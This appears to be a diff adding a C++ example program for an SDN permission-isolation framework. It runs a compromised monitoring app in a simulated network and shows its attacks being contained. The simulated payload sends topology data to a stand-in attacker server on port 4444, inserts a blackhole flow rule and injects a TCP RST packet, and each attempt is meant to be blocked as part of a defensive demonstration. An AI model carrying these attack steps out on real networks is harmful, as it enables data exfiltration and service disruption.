@@ -1,0 +1,94 @@
+// Scenario 1 (paper §VII): a vulnerable monitoring app in a multi-tenant
+// network. The app's manifest leaves two stubs for the administrator and
+// over-requests insert_flow; reconciliation fills the stubs and truncates
+// the exclusive permission. We then *compromise* the app (its web-request
+// hook executes attacker code) and watch SDNShield contain every attack
+// class while the legitimate reporting keeps working.
+//
+// Build & run:  ./build/examples/multi_tenant_monitoring
+#include <cstdio>
+
+#include "apps/monitoring.h"
+#include "core/lang/perm_parser.h"
+#include "core/lang/policy_parser.h"
+#include "core/lang/printer.h"
+#include "core/reconcile/reconciler.h"
+#include "isolation/api_proxy.h"
+#include "switchsim/sim_network.h"
+
+using namespace sdnshield;
+
+int main() {
+  const of::Ipv4Address kAdminCollector(10, 1, 0, 10);
+  const of::Ipv4Address kAttackerServer(203, 0, 113, 66);
+
+  ctrl::Controller controller;
+  sim::SimNetwork network(controller);
+  network.buildLinear(3);
+
+  auto app = std::make_shared<apps::MonitoringApp>(kAdminCollector);
+  std::printf("== Manifest shipped with the app ==\n%s\n",
+              app->requestedManifest().c_str());
+
+  // The administrator supplies the Scenario-1 policy: stub values plus the
+  // network-access / insert-flow mutual exclusion.
+  reconcile::Reconciler reconciler(lang::parsePolicy(
+      "LET LocalTopo = {SWITCH 1,2,3 LINK {(1,2),(2,3)}}\n"
+      "LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}\n"
+      "ASSERT EITHER { PERM network_access } OR { PERM insert_flow }\n"));
+  auto result =
+      reconciler.reconcile(lang::parseManifest(app->requestedManifest()));
+  for (const auto& violation : result.violations) {
+    std::printf("reconciliation: %s\n", violation.toString().c_str());
+  }
+  std::printf("\n== Final permissions ==\n%s\n",
+              lang::formatPermissions(result.finalPermissions).c_str());
+
+  iso::ShieldRuntime shield(controller);
+  of::AppId id = shield.loadApp(app, result.finalPermissions);
+
+  // Legitimate behaviour still works: report to the admin collector.
+  bool reported = false;
+  shield.container(id)->postAndWait(
+      [&] { reported = app->collectAndReport(); });
+  std::printf("legitimate report to %s: %s\n",
+              kAdminCollector.toString().c_str(),
+              reported ? "DELIVERED" : "blocked");
+
+  // Now the attacker exploits the app's web vulnerability: arbitrary code
+  // runs with the app's privileges. Each attempted attack class is blocked.
+  std::printf("\n== Compromise: attacker payload runs inside the app ==\n");
+  shield.container(id)->postAndWait([&] {
+    app->onWebRequest([&](ctrl::AppContext& ctx) {
+      // Class 2: exfiltrate the topology to the attacker's server.
+      bool leaked = ctx.host().netSend(kAttackerServer, 4444, "stolen topo");
+      std::printf("  exfiltration to %s: %s\n",
+                  kAttackerServer.toString().c_str(),
+                  leaked ? "LEAKED" : "blocked");
+      // Class 3: insert a blackhole rule.
+      of::FlowMod blackhole;
+      blackhole.priority = 200;
+      blackhole.actions.push_back(of::DropAction{});
+      bool inserted = ctx.api().insertFlow(2, blackhole).ok;
+      std::printf("  blackhole rule insertion: %s\n",
+                  inserted ? "INSTALLED" : "blocked");
+      // Class 1: inject a packet into the data plane.
+      of::PacketOut inject;
+      inject.dpid = 1;
+      inject.packet = of::Packet::makeTcp(
+          of::MacAddress::fromUint64(0xEE), of::MacAddress::fromUint64(1),
+          of::Ipv4Address(10, 0, 0, 99), of::Ipv4Address(10, 0, 0, 1), 1, 80,
+          of::tcpflags::kRst);
+      inject.actions.push_back(of::OutputAction{1});
+      bool sent = ctx.api().sendPacketOut(inject).ok;
+      std::printf("  data-plane packet injection: %s\n",
+                  sent ? "INJECTED" : "blocked");
+    });
+  });
+
+  std::printf("\n== Forensics: audit trail of the compromised app ==\n");
+  for (const auto& entry : controller.audit().entriesFor(id)) {
+    std::printf("  %s\n", entry.toString().c_str());
+  }
+  return 0;
+}
